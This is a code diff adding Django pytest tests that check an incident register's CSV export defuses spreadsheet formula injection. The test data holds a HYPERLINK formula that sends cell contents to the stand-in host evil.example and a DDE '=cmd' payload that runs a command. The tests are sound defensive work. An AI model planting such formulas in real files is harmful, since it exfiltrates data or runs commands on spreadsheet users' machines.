@@ -5,7 +5,9 @@ import io
 import json
 
 import pytest
+from django.test import Client
 
+from incidents.intake.services import integration_create
 from incidents.services.assessments import assessment_compute, assessment_override
 from incidents.services.incidents import incident_create
 from incidents.services.lifecycle import incident_transition
@@ -55,3 +57,52 @@ def test_export_includes_dismissed_and_not_notified_with_reasons(api, dpo, org):
         quiet.reference,
     ]
     assert api["dpo"].get("/api/v1/register/export/?as=xml").status_code == 400
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_spreadsheet_formulas(api, dpo, org, start):
+    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    incident_create(actor=dpo, data={"title": title, "summary": "=1+1"})
+    response = api["dpo"].get("/api/v1/register/export/?as=csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    (row,) = rows
+    assert row["title"] == "'" + title  # shown as text by a spreadsheet, still readable
+    json_rows = json.loads(
+        b"".join(api["dpo"].get("/api/v1/register/export/?as=json").streaming_content)
+    )
+    assert json_rows[0]["title"] == title  # JSON is data, not a spreadsheet: unchanged
+
+
+@pytest.mark.django_db
+def test_an_integration_cannot_plant_a_formula_through_an_alert_title(api, org):
+    issued = integration_create(name="csv-inject", source="generic")
+    response = Client().post(
+        "/api/v1/alerts/generic/",
+        data=json.dumps({"title": "=cmd|' /C calc'!A0", "dedup_key": "x"}),
+        content_type="application/json",
+        headers={"Authorization": f"Bearer {issued.token}"},
+    )
+    assert response.status_code == 202, response.content
+    body = b"".join(api["dpo"].get("/api/v1/register/export/?as=csv").streaming_content).decode()
+    assert "\n=cmd" not in body
+    assert ",=cmd" not in body
+    assert "'=cmd" in body
+
+
+@pytest.mark.django_db
+def test_json_export_matches_its_schema(api, dpo, org):
+    incident_create(actor=dpo, data={"title": "Schema", "aware_at": utc(2026, 2, 1)})
+    rows = json.loads(
+        b"".join(api["dpo"].get("/api/v1/register/export/?as=json").streaming_content)
+    )
+    schema = api["dpo"].get("/api/schema/?format=json").json()
+    op = schema["paths"]["/api/v1/register/export/"]["get"]["responses"]["200"]["content"]
+    items = op["application/json"]["schema"]
+    assert items["type"] == "array"
+    component = items["items"]["$ref"].rsplit("/", 1)[1]
+    properties = schema["components"]["schemas"][component]["properties"]
+    assert set(properties) == set(rows[0])
+    for name, value in rows[0].items():
+        if value is None:
+            assert properties[name].get("nullable"), name
